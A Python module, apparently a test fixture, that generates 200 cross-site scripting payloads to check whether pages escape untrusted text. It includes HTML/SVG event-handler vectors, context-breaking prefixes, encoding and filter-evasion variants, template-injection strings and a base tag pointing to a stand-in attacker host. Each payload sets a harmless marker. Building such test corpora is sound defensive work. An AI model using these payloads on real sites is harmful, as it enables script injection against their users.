"""Texts that would be a script if a page showed them as they are: 200 different ones."""

from __future__ import annotations

from itertools import product

#: What each would do. A page on which it was done knows so afterwards.
RUN = "top.__pwned=1"
#: Stands in an answer that has any of these texts in it, however it is escaped.
MARK = "__pwned"

_VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt x>{RUN}</sCrIpT >",
    f"<script>alert(1);{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script src=\"data:text/javascript,{RUN}\"></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\">",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=\"{RUN}\" x=",
    f"<image src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<object data=\"javascript:{RUN}\"></object>",
    f"<embed src=\"javascript:{RUN}\">",
    f"<a href=\"javascript:{RUN}\" autofocus onfocus={RUN}>x</a>",
    f"<form action=\"javascript:{RUN}\"><button autofocus onfocus={RUN}>x</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<base href=\"https://evil.example/\"><script src=x.js>{RUN}</script>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<x tabindex=1 id=x autofocus onfocus={RUN}>",
)  # fmt: skip
#: Where a text may stand when it is shown, and how to get out of there.
_WAYS_OUT = ("", '">', "'>", "</title>", "</textarea></option></select>", "--></script>")
_OTHERS = (
    f"\" autofocus onfocus={RUN} x=\"",
    f"' autofocus onfocus={RUN} x='",
    f"x onmouseover={RUN} autofocus onfocus={RUN}",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}%253C/script%253E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u0000script>{RUN}</script>",
    f"<scr\u0000ipt>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--<img src=\"--><img src=x onerror={RUN}//\">",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"{{% autoescape off %}}<script>{RUN}</script>",
    f"';{RUN};//",
    f"\";{RUN};//",
    f"</script><script>{RUN}</script>",
)  # fmt: skip

PAYLOADS = (*(way + vector for way, vector in product(_WAYS_OUT, _VECTORS)), *_OTHERS)[:200]
